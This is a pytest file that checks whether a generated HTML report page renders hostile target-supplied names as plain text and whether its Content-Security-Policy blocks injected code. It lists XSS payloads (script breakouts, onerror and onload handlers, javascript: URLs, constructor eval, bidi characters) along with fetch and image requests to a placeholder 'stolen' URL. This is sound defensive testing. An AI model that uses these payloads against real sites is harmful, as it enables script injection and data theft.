"""Names and error texts come from targets: on a page they are text, and nothing of them runs, loads or hides."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from harness.report.model import Report
from harness.report.page.run import run_page
from harness.report.page.shell import write_page
from tests.page.browsing import Shown
from tests.page.changed import changed

Open = Callable[..., Shown]
RUN = "document.title='run';window.run=1"
HOSTILE = (
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><style>*{{display:none}}</style>",
    f"\"><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<!--<script>",
    "]]><![CDATA[",
    "</style><link rel=stylesheet href=https://example.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    f"javascript:{RUN}",
    f"datum.x;{RUN};[''].constructor.constructor('{RUN}')()",
    "%{value} {{value}} ${value} {a|b} %s",
    "a.b['c'][0].d\\\"e",
    "__proto__",
    "constructor",
    "\u202egnp.exe\u202c",
    "\u2066\u200b\u00ad\u2028\u2029\ufeff",
    "\x1b[31mred\x1b[0m\x00\x07",
    "e\u0301" * 40,
    "x" * 10_000,
    "שלום עולם",
    " ",
)


def _poison(document: dict[str, Any], text: str) -> None:
    """Put `text` wherever a text of somebody else may stand."""
    document["scenario"] = document["description"] = document["target"] = text
    document["errors"] = {text: 7, f"2{text}": 1}
    document["doubts"] = [text]
    document["harness_version"] = document["scenario_digest"] = text
    document["machine"]["processor"] = document["machine"]["platform"] = text
    document["figure_doubts"]["response_time_percentiles.p50"] = text
    document["not_observable"]["resource_usage.uss_peak_b"] = text
    for one in document["bottlenecks"]:
        one["sentence"] = one["name"] = text
    for line in document["baseline"]["lines"]:
        line["reason"] = line["text"] = line["metric"] = text
    for one in document["signals"]["each"]:
        one.update(state="fired", evidence=text, name=text)
    document["signals"]["stalls"] = [{"held_s": 1.0, "at_s": 0.5, "times": 2, "stack": [text, text]}]
    document["series"]["gauges"] = {text: {"samples": 2, "t_s": [0.0, 1.0], "values": [1.0, 2.0]}}
    document["status"] = f"invalid: {text}"
    for pool in document["over_time"]["pools"]:
        pool["name"] = text


@pytest.fixture(scope="module")
def poisoned(eight: tuple[Report, ...]) -> tuple[Report, ...]:
    return tuple(
        changed(eight[k % len(eight)], lambda document, text=text: _poison(document, text))
        for k, text in enumerate(HOSTILE)
    )


def test_hostile_names_stay_text(poisoned: tuple[Report, ...], tmp_path: Path, opened: Open) -> None:
    shown = opened(write_page(run_page(poisoned), tmp_path / "hostile.html"))
    shown.drawn()
    assert shown.clean
    assert shown.page.evaluate("[window.run === undefined, document.title.includes('run')]") == [True, False]
    for tag, count in {"script": 3, "style": 1, "meta": 5, "link": 1, "img": 0, "iframe": 0, "object": 0}.items():
        assert shown.page.locator(tag).count() == count, tag
    handlers = """() => [...document.querySelectorAll("*")].flatMap(one => [...one.attributes])
      .filter(one => one.name.startsWith("on") || one.name === "style" && one.ownerElement.closest(".plot") === null
                     || /^\\s*javascript:/i.test(one.value) && one.name === "href").length"""
    assert shown.page.evaluate(handlers) == 0
    assert shown.page.locator(".scenario").count() == len(HOSTILE)
    for text in HOSTILE[:4]:
        assert shown.page.get_by_text(text[:60]).count() > 3, text
    assert shown.page.evaluate("document.documentElement.scrollWidth") == 1280


def test_no_character_hides_or_turns_what_stands_beside_it(poisoned: tuple[Report, ...], tmp_path: Path) -> None:
    page = write_page(run_page(poisoned), tmp_path / "hostile.html").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b\ufeff\u2028\u2029\u00ad]", page)
    assert "\\u202e" in page
    assert "x" * 1000 not in page


def test_the_policy_allows_two_scripts_and_one_style_sheet_and_nothing_else(eight_page: Path) -> None:
    page = eight_page.read_text(encoding="utf-8")
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)
    assert policy is not None
    said = dict(part.strip().split(" ", 1) for part in policy[1].split(";"))
    assert said["default-src"] == "'none'"
    assert re.fullmatch(r"('sha256-[A-Za-z0-9+/=]{44}' ?){2}", said["script-src"])
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/=]{44}'", said["style-src"])
    assert "unsafe" not in policy[1]
    assert page.index("Content-Security-Policy") < page.index("<script")
    assert "http://" not in page.replace("http://www.w3.org", "")


@pytest.mark.parametrize(
    "attack",
    [
        "const made = document.createElement('script'); made.text = 'window.run = 1'; document.body.append(made)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.run = 1\">')",
        "new Image().src = 'https://example.invalid/stolen'",
        "fetch('https://example.invalid/stolen')",
        "document.body.setAttribute('onclick', 'window.run = 1'); document.body.click()",
    ],
)
def test_what_would_get_in_is_stopped_by_the_policy(attack: str, eight_page: Path, opened: Open) -> None:
    shown = opened(eight_page)
    shown.page.evaluate(
        "() => { window.refused = 0; addEventListener('securitypolicyviolation', () => { window.refused += 1; }); }"
    )
    shown.page.evaluate(f"async () => {{ try {{ await (async () => {{ {attack} }})(); }} catch {{ }} }}")
    shown.until(lambda said: said > 0, "window.refused")
    assert shown.page.evaluate("window.run === undefined")
    assert all(reason == "csp" for reason in shown.stopped)
    assert len(shown.requests) == 1 + len(shown.stopped)
